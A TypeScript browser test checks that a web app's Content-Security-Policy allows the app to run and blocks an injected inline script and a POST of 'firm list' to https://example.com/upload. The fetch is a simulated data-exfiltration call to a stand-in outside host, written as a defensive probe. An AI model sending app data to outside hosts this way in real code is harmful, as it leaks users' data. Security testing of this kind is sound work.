import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openReadyApp, type OpenedApp } from './harness';

// The page's Content-Security-Policy: the app runs under it (every browser test would see a
// violation as a console error), and it stops what it is there to stop.
describe('Content-Security-Policy', () => {
	let app: OpenedApp;

	beforeAll(async () => {
		app = await openReadyApp('/');
	});
	afterAll(() => app?.close());

	it('loads the app without a violation', async () => {
		expect(app.errors.filter((e) => /Content Security Policy|Refused to/i.test(e))).toEqual([]);
		const policy = await app.page.locator('meta[http-equiv="content-security-policy"]').getAttribute('content');
		expect(policy).toMatch(/default-src 'self'/);
		expect(policy).toMatch(/connect-src 'self' data: blob: https:\/\/cyberjapandata\.gsi\.go\.jp https:\/\/raw\.githubusercontent\.com;/);
	});

	it('refuses an injected inline script and a request to any other host', async () => {
		const result = await app.page.evaluate(async () => {
			const violations: string[] = [];
			document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
			const script = document.createElement('script');
			script.textContent = 'window.__cspProbe = 1';
			document.head.append(script);
			let fetched = true;
			try {
				await fetch('https://example.com/upload', { method: 'POST', body: 'firm list' });
			} catch {
				fetched = false;
			}
			await new Promise((resolve) => setTimeout(resolve, 100));
			return { ran: (window as { __cspProbe?: number }).__cspProbe === 1, fetched, violations };
		});
		expect(result.ran).toBe(false);
		expect(result.fetched).toBe(false);
		expect(result.violations).toEqual(expect.arrayContaining(['script-src-elem', 'connect-src']));
		// Stopped by the policy, not by the test's cut-off network: the request never left the page.
		expect(app.blocked).toEqual([]);
	});
});
